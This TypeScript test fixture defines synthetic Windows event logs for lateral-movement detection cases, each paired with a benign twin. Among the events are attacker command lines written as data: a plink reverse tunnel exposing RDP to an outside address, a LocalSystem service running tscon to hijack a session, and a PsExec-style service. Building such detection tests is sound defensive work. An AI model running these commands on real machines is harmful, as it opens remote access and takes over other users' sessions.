import type { ForgedEvent } from "./forged-hops.ts";
import type { ScenarioInput } from "./triage-scenario.ts";

/** Small scenarios that an analyzer has to find, or honest twins that it must not. */
export interface LateralCase {
  readonly name: string;
  /** Rule ids of the findings that have to be there from `medium` up; of honest twins none. */
  readonly expect: readonly string[];
  readonly scenario: ScenarioInput;
}

const NET = {
  start: "2026-03-02T00:00:00Z",
  hosts: {
    "WS-01": { domain: "corp.example", addresses: ["10.5.0.11"] },
    "SRV-01": { domain: "corp.example", addresses: ["10.5.0.20"] },
    "DC-01": { domain: "corp.example", addresses: ["10.5.0.5"] },
    ...Object.fromEntries(
      Array.from({ length: 6 }, (_, at) => [
        `SRV-1${at}`,
        { domain: "corp.example", addresses: [`10.5.0.3${at}`] },
      ]),
    ),
  },
};
const SID = "S-1-5-21-1004336348-1177238915-682003330-1105";
const TS = "Microsoft-Windows-TerminalServices";

function lateralCase(
  name: string,
  expect: readonly string[],
  events: readonly ForgedEvent[],
): LateralCase {
  return { name, expect, scenario: { ...NET, title: name, events } };
}

const seconds = (n: number): string => `+${n}s`;
const security = (at: number, host: string, id: number, data: object): ForgedEvent => ({
  at: seconds(at),
  host,
  channel: "Security",
  id,
  data,
});
const failed = (at: number, account: string, address = "10.5.0.11", type = 3): ForgedEvent =>
  security(at, "SRV-01", 4625, {
    TargetUserName: account,
    TargetDomainName: "CORP",
    LogonType: type,
    Status: "0xc000006d",
    SubStatus: "0xc000006a",
    WorkstationName: "WS-01",
    IpAddress: address,
    IpPort: "50001",
  });
const logon = (at: number, host: string, type: number, more: object = {}): ForgedEvent =>
  security(at, host, 4624, {
    TargetUserSid: SID,
    TargetUserName: "user.ops",
    TargetDomainName: "CORP",
    TargetLogonId: `0x${(0x10000 + Math.floor(at)).toString(16)}`,
    LogonType: type,
    LogonProcessName: "Kerberos",
    AuthenticationPackageName: "Kerberos",
    WorkstationName: "-",
    IpAddress: "10.5.0.11",
    IpPort: "50002",
    ...more,
  });
const special = (at: number, host: string): ForgedEvent =>
  security(at, host, 4672, {
    SubjectUserSid: SID,
    SubjectUserName: "user.ops",
    SubjectDomainName: "CORP",
    SubjectLogonId: `0x${(0x10000 + Math.floor(at)).toString(16)}`,
  });
const NTLM = {
  LogonProcessName: "NtLmSsp ",
  AuthenticationPackageName: "NTLM",
  LmPackageName: "NTLM V2",
  KeyLength: 0,
  WorkstationName: "WS-01",
};
const ticket = (at: number, account: string, type: string): ForgedEvent =>
  security(at, "DC-01", 4768, {
    TargetUserName: account,
    TargetDomainName: "CORP.EXAMPLE",
    TargetSid: SID,
    ServiceName: "krbtgt",
    Status: "0x0",
    TicketEncryptionType: type,
    PreAuthType: 2,
    IpAddress: "::ffff:10.5.0.11",
    IpPort: "51000",
  });
const preauth = (at: number, account: string): ForgedEvent =>
  security(at, "DC-01", 4771, {
    TargetUserName: account,
    TargetSid: SID,
    ServiceName: "krbtgt/CORP",
    Status: "0x18",
    PreAuthType: 2,
    IpAddress: "::ffff:10.5.0.11",
    IpPort: "51000",
  });
const ts = (at: number, id: number, address: string): ForgedEvent => ({
  at: seconds(at),
  host: "SRV-01",
  channel: `${TS}-LocalSessionManager/Operational`,
  id,
  userData: { EventXML: { User: "CORP\\user.ops", SessionID: 3, Address: address } },
});
const program = (at: number, host: string, data: object): ForgedEvent => ({
  at: seconds(at),
  host,
  channel: "Microsoft-Windows-Sysmon/Operational",
  id: 1,
  data,
});
const times = <T>(n: number, make: (at: number) => T): T[] =>
  Array.from({ length: n }, (_, at) => make(at));

export const LATERAL_CASES: readonly LateralCase[] = [
  lateralCase(
    "passwords guessed until one fits",
    ["password-guessing"],
    [...times(30, (at) => failed(100 + at * 3, "user.ops")), logon(200, "SRV-01", 3)],
  ),
  lateralCase(
    "guessing over Remote Desktop without success",
    ["password-guessing"],
    [...times(40, (at) => failed(100 + at * 5, "administrator", "203.0.113.7", 10))],
  ),
  lateralCase(
    "one password mistyped three times",
    [],
    [...times(3, (at) => failed(100 + at * 9, "user.ops")), logon(140, "SRV-01", 3)],
  ),
  lateralCase(
    "an old password in a service, one try an hour",
    [],
    [...times(48, (at) => failed(at * 3600, "svc.old"))],
  ),
  lateralCase(
    "a spray over twelve accounts",
    ["password-spray"],
    [...times(12, (at) => preauth(100 + at * 20, `user.n${at}`))],
  ),
  lateralCase(
    "four people mistype at the start of the day",
    [],
    [...times(4, (at) => preauth(100 + at * 200, `user.n${at}`))],
  ),
  lateralCase(
    "Remote Desktop through plink",
    ["tunnelled-rdp"],
    [
      program(50, "SRV-01", {
        Image: "C:\\Users\\Public\\plink.exe",
        CommandLine: "plink.exe -R 4000:127.0.0.1:3389 user@203.0.113.9",
        ParentImage: "C:\\Windows\\System32\\cmd.exe",
        User: "CORP\\user.ops",
      }),
      logon(100, "SRV-01", 10, { IpAddress: "127.0.0.1", LogonProcessName: "User32 " }),
      ts(101, 21, "127.0.0.1"),
    ],
  ),
  lateralCase(
    "Remote Desktop from a workstation",
    [],
    [logon(100, "SRV-01", 10, { LogonProcessName: "User32 " }), ts(101, 21, "10.5.0.11")],
  ),
  lateralCase(
    "tscon as SYSTEM by a service",
    ["session-takeover"],
    [
      {
        at: seconds(90),
        host: "SRV-01",
        channel: "System",
        id: 7045,
        data: {
          ServiceName: "sesshijack",
          ImagePath: "cmd.exe /k tscon 3 /dest:rdp-tcp#2",
          ServiceType: "user mode service",
          StartType: "demand start",
          AccountName: "LocalSystem",
        },
      },
      ts(95, 25, "10.5.0.11"),
    ],
  ),
  lateralCase(
    "a session of other credentials that goes on by NTLM",
    ["other-credentials"],
    [
      logon(100, "WS-01", 9, {
        LogonProcessName: "seclogo",
        AuthenticationPackageName: "Negotiate",
        IpAddress: "::1",
        TargetOutboundUserName: "user.ops",
        TargetOutboundDomainName: "CORP",
      }),
      logon(160, "SRV-01", 3, { ...NTLM, KeyLength: 128 }),
      special(160.001, "SRV-01"),
    ],
  ),
  lateralCase(
    "NTLM without a session key that makes a service",
    ["pass-the-hash", "remote-service"],
    [
      logon(50, "DC-01", 3),
      logon(160, "SRV-01", 3, NTLM),
      special(160.001, "SRV-01"),
      security(161, "SRV-01", 5140, {
        SubjectUserSid: SID,
        SubjectUserName: "user.ops",
        SubjectDomainName: "CORP",
        SubjectLogonId: "0x100a0",
        IpAddress: "10.5.0.11",
        ShareName: "\\\\*\\ADMIN$",
      }),
      security(162, "SRV-01", 4697, {
        SubjectUserSid: SID,
        SubjectUserName: "user.ops",
        SubjectDomainName: "CORP",
        SubjectLogonId: "0x100a0",
        ServiceName: "abcdefgh",
        ServiceFileName: "%COMSPEC% /c echo",
      }),
    ],
  ),
  lateralCase("NTLM to a share without rights", [], [logon(160, "SRV-01", 3, NTLM)]),
  lateralCase(
    "a ticket with RC4 where the account gets AES",
    ["overpass-the-hash"],
    [
      ...times(6, (at) => ticket(at * 30_000, "user.ops", "0x12")),
      ticket(200_000, "user.ops", "0x17"),
    ],
  ),
  lateralCase(
    "tickets with AES only",
    [],
    [...times(6, (at) => ticket(at * 30_000, "user.ops", "0x12"))],
  ),
  lateralCase(
    "a service account of old with RC4 only",
    [],
    [...times(6, (at) => ticket(at * 30_000, "svc.old", "0x17"))],
  ),
  lateralCase(
    "one account reaches six machines in ten minutes",
    ["fan-out"],
    times(6, (at) => at).flatMap((at) => [
      logon(100 + at * 90, `SRV-1${at}`, 3),
      special(100.001 + at * 90, `SRV-1${at}`),
    ]),
  ),
  lateralCase(
    "a management account reaches six machines every night",
    [],
    times(7 * 6, (at) => at).flatMap((at) => {
      const when = Math.floor(at / 6) * 86_400 + 7_200 + (at % 6) * 90;
      return [logon(when, `SRV-1${at % 6}`, 3), special(when + 0.001, `SRV-1${at % 6}`)];
    }),
  ),
];
